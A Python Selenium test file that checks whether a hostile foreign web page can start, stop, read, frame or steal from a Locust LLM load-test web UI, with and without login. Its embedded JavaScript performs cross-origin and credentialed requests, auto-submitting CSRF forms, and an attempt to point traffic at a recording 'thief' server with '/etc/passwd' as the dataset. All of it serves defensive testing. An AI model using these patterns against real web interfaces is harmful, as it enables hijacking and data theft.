"""A foreign page in a real browser that tries to start, stop, read, frame and steal, with and without a login."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from tests.simulator_process import Simulator, running_simulator
from tests.webui.web_process import WebProcess, running_locust

pytestmark = pytest.mark.browser

SHORT = ("--context-tokens", "50", "--max-tokens", "10", "-u", "2", "-r", "2")
ATTACK = """
const [ui, thief, done] = arguments;
const form = new URLSearchParams({user_count: "1", spawn_rate: "1", host: thief, dataset: "/etc/passwd"});
const attempt = async (path, init) => {
  try {
    const answer = await fetch(ui + path, init);
    return answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`;
  } catch (error) { return "blocked"; }
};
const include = (name, path, attribute) => new Promise((resolve) => {
  const each = document.createElement(name);
  each.onload = () => resolve(name === "iframe" ? "framed" : "included");
  each.onerror = () => resolve("blocked");
  each[attribute] = ui + path;
  document.body.append(each);
  if (name === "iframe") setTimeout(() => resolve("waited"), 1500);
});
(async () => {
  const results = {};
  for (const credentials of ["omit", "include"]) {
    for (const mode of ["cors", "no-cors"]) {
      for (const path of ["/swarm", "/stop", "/stats/reset"]) {
        const init = {method: "POST", body: form, mode, credentials};
        results[`${mode} ${credentials} ${path}`] = await attempt(path, init);
      }
      for (const path of ["/llm/form", "/llm/live", "/logs", "/exceptions", "/stats/report", "/stats/requests", "/"]) {
        results[`${mode} ${credentials} ${path}`] = await attempt(path, {mode, credentials});
      }
    }
  }
  results.script = await include("script", "/llm/web/llm.js", "src");
  results.image = await include("img", "/assets/favicon-light.png", "src");
  await include("iframe", "/", "src");
  await include("iframe", "/llm", "src");
  for (const sandbox of ["allow-forms allow-scripts", ""]) {
    const frame = document.createElement("iframe");
    if (sandbox) frame.sandbox = sandbox;
    frame.srcdoc = `<form method=post action="${ui}/swarm"><input name=user_count value=1>` +
      `<input name=spawn_rate value=1><input name=host value="${thief}"></form>` +
      "<script>document.forms[0].submit()</scr" + "ipt>";
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 700));
  }
  done(results);
})();
"""


class Thief(BaseHTTPRequestHandler):
    """Serves the foreign page, and keeps whatever else is sent to it."""

    taken: list[str]

    def do_GET(self) -> None:
        if self.path not in ("/page", "/favicon.ico"):
            self.taken.append(f"{self.command} {self.path} {self.headers}")
        body = b"<!doctype html><title>foreign</title><body></body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        """Quiet."""


@contextmanager
def thief() -> Iterator[tuple[int, list[str]]]:
    """Its port, and what it got."""
    handler = type("Handler", (Thief,), {"taken": []})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_port, handler.taken  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def simulator() -> Iterator[Simulator]:
    with running_simulator(seed=3) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[webdriver.Chrome]:
    options = webdriver.ChromeOptions()
    options.binary_location = shutil.which("chromium") or shutil.which("google-chrome") or ""
    for argument in (
        "--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
        "--host-resolver-rules=MAP *.example 127.0.0.1",
    ):  # fmt: skip
        options.add_argument(argument)
    driver = webdriver.Chrome(options, webdriver.ChromeService(shutil.which("chromedriver")))
    yield driver
    driver.quit()


@pytest.fixture(scope="module", params=[False, True], ids=["open", "login"])
def victim(
    request: pytest.FixtureRequest, simulator: Simulator, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[WebProcess, bool]]:
    """A Locust in which nothing is ever started, and whether it asks for a login."""
    flags, file = ["--web-login"] if request.param else [], "tests/webui/login_locustfile.py"
    with running_locust(tmp_path_factory.mktemp("ui"), simulator.chat_url, *SHORT, *flags, file=file) as locust:
        yield locust, request.param


@pytest.mark.parametrize("foreign_host", ["127.0.0.1", "localhost", "evil.example"])
def test_a_foreign_page_can_do_nothing(
    browser: webdriver.Chrome, victim: tuple[WebProcess, bool], foreign_host: str
) -> None:
    locust, login = victim
    with thief() as (port, taken):
        if login:
            log_in(browser, locust)
            (cookie,) = [each for each in browser.get_cookies() if each["name"] == "session"]
            assert (cookie["sameSite"], cookie["httpOnly"]) == ("Strict", True)
        browser.get(f"http://{foreign_host}:{port}/page")
        browser.set_script_timeout(60)
        results = browser.execute_async_script(ATTACK, locust.url, f"http://127.0.0.1:{port}")
        # What is opaque was refused by the UI, or by the browser at the UI's word: nothing of it can be read.
        assert {name: each for name, each in results.items() if each not in ("blocked", "opaque")} == {}
        assert framed_texts(browser) == []
        assert state(browser, locust, login) == "ready", "started by a foreign page"
        assert list(locust.results.glob("*/*")) == []
        assert taken == [], "something was sent to the foreign server"


def test_a_page_whose_name_was_rebound_to_this_machine_can_do_nothing(
    browser: webdriver.Chrome, simulator: Simulator, tmp_path: Path
) -> None:
    with running_locust(tmp_path, simulator.chat_url, *SHORT) as locust:
        rebound = locust.url.replace("127.0.0.1", "rebound.example")
        for path in ("/", "/llm", "/llm/form", "/logs"):
            browser.get(rebound + path)
            assert "Host: expected a name of this web UI" in browser.page_source
        assert '"token"' in str(fetched(browser, f"{locust.url}/llm/form", locust.url))


def test_locusts_own_page_starts_resets_and_stops(
    browser: webdriver.Chrome, simulator: Simulator, tmp_path: Path
) -> None:
    with running_locust(tmp_path, simulator.chat_url, *SHORT) as locust:
        browser.get(locust.url + "/")
        press(browser, "Start")
        locust.await_live(lambda live: live["is_on"] and live["run"]["counts"]["ok"] >= 3)
        press(browser, "Reset")
        press(browser, "Stop")
        locust.await_live(lambda live: not live["is_on"])


def press(browser: webdriver.Chrome, label: str) -> None:
    """The button of Locust's page whose text begins so."""
    script = (
        "const found = [...document.querySelectorAll('button')].find(each => "
        "each.textContent.trim().toLowerCase().startsWith(arguments[0].toLowerCase()) && !each.disabled);"
        "found?.click(); return !!found;"
    )
    WebDriverWait(browser, 30, poll_frequency=0.1).until(lambda _: browser.execute_script(script, label))


def log_in(browser: webdriver.Chrome, locust: WebProcess) -> None:
    browser.execute_cdp_cmd("Network.clearBrowserCookies", {})  # they are of a name, whatever the port
    browser.get(f"{locust.url}/llm")
    WebDriverWait(browser, 30).until(lambda _: browser.find_elements(By.NAME, "username"))
    browser.find_element(By.NAME, "username").send_keys("tester")
    browser.find_element(By.NAME, "password").send_keys("secret")
    browser.find_element(By.CSS_SELECTOR, "button[type=submit]").click()
    WebDriverWait(browser, 30).until(lambda _: browser.current_url == f"{locust.url}/llm")


def fetched(browser: webdriver.Chrome, url: str, page: str) -> str:
    """What a page of the UI itself reads."""
    browser.get(f"{page}/llm")
    script = "const [url, done] = arguments; fetch(url).then(each => each.text()).then(done)"
    return str(browser.execute_async_script(script, url))


def state(browser: webdriver.Chrome, locust: WebProcess, login: bool) -> str:
    if not login:
        return str(locust.live()["state"])
    live: dict[str, Any] = json.loads(fetched(browser, f"{locust.url}/llm/live", locust.url))
    return str(live["state"])


def framed_texts(browser: webdriver.Chrome) -> list[str]:
    """What frames of the page show of the UI: nothing but a browser's own page of an error, or the refusal."""
    texts = []
    for frame in browser.find_elements(By.TAG_NAME, "iframe"):
        browser.switch_to.frame(frame)
        texts.append(str(browser.execute_script("return document.body?.innerHTML ?? ''")))
        browser.switch_to.default_content()
    return [text for text in texts if 'id="root"' in text or "LLM load test" in text]
